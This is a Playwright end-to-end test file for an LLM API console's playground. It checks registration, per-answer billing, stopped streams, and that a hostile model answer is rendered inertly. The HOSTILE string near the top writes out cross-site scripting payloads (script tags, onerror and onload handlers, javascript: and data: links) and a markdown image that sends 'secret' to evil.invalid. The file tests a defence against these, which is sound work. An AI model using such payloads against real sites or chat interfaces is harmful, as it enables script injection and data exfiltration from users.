"""From a stranger to a first answer that is paid for, and what a hostile answer can do: nothing."""

import os
import re
from decimal import Decimal

from playwright.async_api import Browser, Dialog, Locator, Page, Request, expect
from stack import NANO, Customer, Stack, eventually
from tollgate.events.v1 import usage_pb2

from .visitor import PHONE, Visitor, visitor

MODEL = "gpt-6-luna"
_COST = re.compile(r"Cost\s*\$([\d,.]+)")
HOSTILE = """Say this:

<script>document.title = "owned"</script>

<img src=x onerror="document.title = 'owned'">

![a picture](https://evil.invalid/x.png?said=secret)

[a link](javascript:document.title='owned') [another](data:text/html,<script>alert(1)</script>)

```svg
<svg onload="document.title = 'owned'"></svg>
```"""


async def test_a_stranger_gets_a_first_answer_and_pays_for_it(
    browser: Browser, stack: Stack
) -> None:
    async with visitor(browser, stack) as ann:
        await ann.register()
        await ann.log_in()
        customer = await _customer(ann)
        before = await stack.wallet(customer.account_id)
        page = ann.page
        await page.get_by_role("link", name="Playground").first.click()
        examples = page.get_by_role("group", name="Examples, sent with one press")
        await expect(examples.get_by_role("button")).to_have_count(3)
        await _choose(page, MODEL)
        await _ask(page, "Hello, world")
        await expect(examples).to_have_count(0)
        answer = page.get_by_role("article")
        await expect(answer).to_contain_text("This is the sandbox. You said: Hello, world")
        cost_nano = await _cost_nano(answer)
        await ann.is_accessible()

        [debit] = await stack.posted(customer, 1)
        assert debit.amount_nano == -cost_nano
        after = await stack.wallet(customer.account_id)
        assert after.posted_nano == before.posted_nano - cost_nano
        await expect(page.get_by_role("banner")).to_contain_text(_cents(after.posted_nano))

        request = answer.get_by_role("definition").get_by_role("link")
        request_id = await request.inner_text()
        await request.click()
        await page.get_by_role("heading", name="Usage logs").wait_for()
        row = page.get_by_role("row").filter(has_text=MODEL)
        await expect(row).to_have_count(1)
        await expect(row).to_contain_text(f"${_short(cost_nano)}")
        assert (await _record(stack, customer, request_id)).cost_nano == cost_nano

        # What was said is still there, though nothing of it was stored.
        await page.get_by_role("link", name="Playground").first.click()
        await expect(answer).to_contain_text("You said: Hello, world")
        assert "Hello" not in str(await page.evaluate("JSON.stringify(localStorage)"))


async def test_a_stopped_answer_is_paid_as_far_as_it_came(browser: Browser, stack: Stack) -> None:
    async with visitor(browser, stack, width=PHONE, scheme="dark") as ann:
        await ann.register()
        await ann.log_in()
        customer = await _customer(ann)
        page = ann.page
        await ann.open(f"/playground?model={MODEL}")
        tag = f"stop-{os.urandom(6).hex()}"
        await _ask(page, f"[[sandbox chunks=2000 delay_ms=20 tag={tag}]]")
        answer = page.get_by_role("article")
        await expect(answer).to_contain_text("the river carries")
        await page.get_by_role("button", name="Stop").click()
        await expect(answer).to_contain_text("stopped by you")
        await stack.request_at_sandbox(tag, "cancelled")
        cost_nano = await _cost_nano(answer)
        [debit] = await stack.posted(customer, 1)
        assert debit.amount_nano == -cost_nano
        await ann.fits()
        await ann.is_accessible()

        silent = f"silent-{os.urandom(6).hex()}"
        await _ask(page, f"[[sandbox first_delay_ms=60000 tag={silent}]]")
        await stack.request_at_sandbox(silent, "started")
        await page.get_by_role("button", name="Stop").click()
        await stack.request_at_sandbox(silent, "cancelled")


async def test_a_hostile_answer_runs_and_loads_nothing(browser: Browser, stack: Stack) -> None:
    async with visitor(browser, stack) as ann:
        await ann.register()
        await ann.log_in()
        page = ann.page
        asked: list[str] = []
        dialogs: list[str] = []

        def note(request: Request) -> None:
            asked.append(request.url)

        async def refuse(dialog: Dialog) -> None:
            dialogs.append(dialog.message)
            await dialog.dismiss()

        await ann.open(f"/playground?model={MODEL}")
        page.on("request", note)
        page.on("dialog", refuse)
        await _ask(page, HOSTILE)
        answer = page.get_by_role("article")
        await _cost_nano(answer)
        await expect(answer).to_contain_text("<script>")
        await expect(answer.get_by_role("link", name="Image: a picture")).to_be_visible()
        await expect(answer.get_by_role("link", name="a link")).to_have_count(0)
        await expect(answer.get_by_role("link", name="another")).to_have_count(0)
        assert await answer.locator("img, script, iframe").count() == 0
        assert await page.title() != "owned"
        assert dialogs == []
        assert [url for url in asked if not url.startswith(stack.console_url)] == []


async def _customer(person: Visitor) -> Customer:
    answer = await person.page.request.get(f"{person.stack.console_url}/api/session")
    return Customer(str((await answer.json())["user"]["account_id"]), "", person.key)


async def _choose(page: Page, model: str) -> None:
    select = page.get_by_role("combobox", name="Model")
    await select.click()
    await select.fill(model)
    await page.get_by_role("option", name=model, exact=True).click()


async def _ask(page: Page, question: str) -> None:
    await page.get_by_role("textbox", name="Message").fill(question)
    await page.get_by_role("button", name="Send").click()


async def _cost_nano(answer: Locator) -> int:
    """What is shown below the answer, once it is there."""
    await expect(answer).to_contain_text(_COST)
    shown = _COST.search(await answer.inner_text())
    assert shown
    return int(Decimal(shown[1].replace(",", "")) * NANO)


async def _record(stack: Stack, customer: Customer, request_id: str) -> usage_pb2.UsageEvent:
    async def look() -> usage_pb2.UsageEvent | None:
        records = await stack.usage(customer)
        return next((record for record in records if record.request_id == request_id), None)

    return await eventually(f"a record of {request_id}", look)


def _cents(nano: int) -> str:
    """As the header shows a balance: whole cents that are there."""
    cents = nano * 100 // NANO
    return f"${cents // 100}.{cents % 100:02}"


def _short(nano: int) -> str:
    return f"{Decimal(nano) / NANO:f}"
